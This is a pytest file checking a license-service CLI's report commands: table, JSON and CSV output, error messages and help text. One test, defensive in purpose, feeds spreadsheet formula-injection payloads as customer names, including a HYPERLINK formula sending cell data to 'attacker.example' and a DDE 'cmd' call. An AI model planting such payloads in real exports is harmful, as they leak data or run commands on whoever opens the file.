"""`licensesvc report *` as an analyst runs them: tables, --json, --csv and the errors.

The shop: Acme (Base) and Globex (Premium), contracts for 2026 paid through 2026-12-31; today
is 2026-03-02."""

from __future__ import annotations

import csv
import io

import pytest

from tests.cli.cli_helpers import Cli, Shop, contract_create, key_issue, license_create


@pytest.fixture
def initech(run: Cli, shop: Shop) -> tuple[int, int]:
    """A third customer whose maintenance is paid only through 2026-03-20 (18 days): its id
    and its contract's."""
    customer = run.json("customer", "create", "--name", "Initech", "--region", "na")["id"]
    contract = run.json(*contract_create(customer, paid_through="2026-03-20"))["id"]
    run.json(*license_create(customer))
    return int(customer), int(contract)


def test_maintenance_lapsing_table_json_and_csv(run: Cli, initech: tuple[int, int]) -> None:
    customer, contract = initech
    table = run.ok("report", "maintenance-lapsing", "--days", "30").stdout.splitlines()
    assert table[0].split() == [
        "CUSTOMER", "ID", "CONTRACT", "PLAN", "PAID", "THROUGH", "DAYS", "LEFT", "CONTRACT", "END",
    ]  # fmt: skip
    assert table[1].split() == [
        "Initech",
        str(customer),
        str(contract),
        "base",
        "2026-03-20",
        "18",
        "2026-12-31",
    ]
    assert len(table) == 2  # Acme and Globex are paid to their contracts' end
    [row] = run.json("report", "maintenance-lapsing", "--days", "30")
    assert row == {
        "customer_id": customer,
        "customer": "Initech",
        "contract_id": contract,
        "plan": "base",
        "paid_through": "2026-03-20",
        "days_left": 18,
        "contract_end": "2026-12-31",
    }
    out = run.ok("report", "maintenance-lapsing", "--csv").stdout
    assert list(csv.reader(io.StringIO(out))) == [
        [
            "customer_id",
            "customer",
            "contract_id",
            "plan",
            "paid_through",
            "days_left",
            "contract_end",
        ],
        [str(customer), "Initech", str(contract), "base", "2026-03-20", "18", "2026-12-31"],
    ]
    assert run.ok("report", "maintenance-lapsing", "--days", "17").stdout == (
        "no maintenance lapses in the next 17 days\n"
    )


def test_csv_of_an_empty_report_is_just_the_header(run: Cli, shop: Shop) -> None:
    out = run.ok("report", "in-grace", "--csv").stdout
    assert out.splitlines() == [
        "customer_id,customer,contract_id,plan,paid_through,grace_until,grace_days_left"
    ]
    assert run.ok("report", "in-grace").stdout == "no customer is in a grace period\n"
    assert run.json("report", "in-grace") == []


def test_contracts_ending_and_quota_use(run: Cli, shop: Shop) -> None:
    rows = run.json("report", "contracts-ending", "--days", "305")
    assert [(r["customer"], r["end"], r["days_left"], r["renewed"]) for r in rows] == [
        ("Acme", "2026-12-31", 304, False),
        ("Globex", "2026-12-31", 304, False),
    ]
    run.ok(*key_issue(shop.globex_license, "temporary", reason="usage_spike"))
    quota = {r["customer"]: r for r in run.json("report", "quota-use")}
    assert (quota["Globex"]["temporary_active"], quota["Globex"]["temporary_limit"]) == (1, 1)
    assert (quota["Acme"]["dr_test_used"], quota["Acme"]["dr_test_limit"]) == (0, 2)
    table = run.ok("report", "quota-use").stdout
    assert "TEMP ACTIVE" in table and "Globex" in table


def test_keys_expiring_lists_the_temporary_key(run: Cli, shop: Shop) -> None:
    issued = run.json(*key_issue(shop.globex_license, "temporary", reason="usage_spike"))
    rows = run.json("report", "keys-expiring", "--days", "120")
    assert [(r["serial"], r["kind"], r["days_left"]) for r in rows] == [
        (issued["serial"], "temporary", 120)
    ]
    assert run.json("report", "keys-expiring", "--days", "30") == []
    assert issued["serial"] in run.ok("report", "keys-expiring", "--days", "120").stdout


def test_overdue_cases_by_owner(run: Cli, shop: Shop) -> None:
    refused = run.fails(*key_issue(shop.acme_license, "temporary", reason="usage_spike"))
    case = refused.stderr.split("(case ")[1].split(")")[0]
    run.ok("case", "escalate", case, "--note", "go-live Friday")
    assert run.ok("report", "overdue-cases").stdout == "no overdue cases\n"
    run.runtime.clock.advance(days=10)  # type: ignore[attr-defined]
    out = run.ok("report", "overdue-cases").stdout
    assert out.splitlines()[1].split()[:3] == ["unassigned", case, "Acme"]
    assert out.splitlines()[-1] == "overdue by owner: unassigned 1"
    [row] = run.json("report", "overdue-cases")
    assert row["case_number"] == case and row["hours_overdue"] > 0


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["maintenance-lapsing", "--days", "-1"], "Invalid value for '--days'"),
        (["keys-expiring", "--days", "lots"], "'lots' is not a valid integer"),
        (["contracts-ending", "--json", "--csv"], "--json and --csv disagree"),
    ],
)
def test_bad_report_options_are_one_line_and_exit_2(run: Cli, shop: Shop, args, message) -> None:
    result = run.fails("report", *args, exit_code=2)
    assert message in result.stderr and result.stdout == ""


def test_report_help_teaches_with_an_example(run: Cli) -> None:
    out = run.ok("report", "--help").stdout
    for name in (
        "maintenance-lapsing", "in-grace", "contracts-ending", "quota-use", "keys-expiring",
        "overdue-cases",
    ):  # fmt: skip
        assert name in out
        assert "Example:" in run.ok("report", name, "--help").stdout


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ],
)
def test_a_formula_in_a_customer_name_stays_text_in_csv(run: Cli, name: str) -> None:
    customer = run.json("customer", "create", "--name", name, "--region", "na")["id"]
    run.json(*contract_create(customer, paid_through="2026-03-20"))
    out = run.ok("report", "maintenance-lapsing", "--csv").stdout
    [row] = [r for r in csv.reader(io.StringIO(out)) if r[0] == str(customer)]
    assert row[1] == "'" + name  # a spreadsheet shows it as text, never runs it
    assert run.json("report", "maintenance-lapsing")[0]["customer"] == name  # JSON unchanged


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_cell_starting_with_tab_or_carriage_return_is_quoted_in_csv(start: str) -> None:
    from cli.commands.reports import _csv_value

    assert _csv_value(start + "=1+1") == "'" + start + "=1+1"
    assert _csv_value("Acme = best") == "Acme = best"
    assert _csv_value(-3) == "-3"  # our own numbers are not formulas
